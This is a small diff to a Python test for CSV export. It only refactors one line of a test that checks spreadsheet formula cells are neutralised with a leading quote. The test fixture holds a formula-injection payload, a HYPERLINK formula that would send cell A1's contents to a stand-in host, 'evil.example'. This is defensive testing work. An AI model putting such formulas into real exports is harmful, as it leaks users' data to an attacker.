@@ -166,7 +166,8 @@ def test_csv_has_a_header_and_every_line_as_it_was(serve: Serve) -> None:
 def test_no_cell_is_a_formula_for_a_spreadsheet(start: str) -> None:
     formula = start + 'HYPERLINK("http://evil.example?"&A1)'
     (line,) = lines_at(-5)
-    rows = CsvRows().of(line | {"text": formula, "service": formula, "template_text": formula, "id": formula}).decode()
+    odd: Any = line | {"text": formula, "service": formula, "template_text": formula, "id": formula}
+    rows = CsvRows().of(odd).decode()
     (cells,) = csv.reader(io.StringIO(rows, newline=""))
     shown = dict(zip(COLUMNS, cells, strict=True))
     assert {shown[name] for name in ("text", "service", "template_text", "id")} == {"'" + formula}
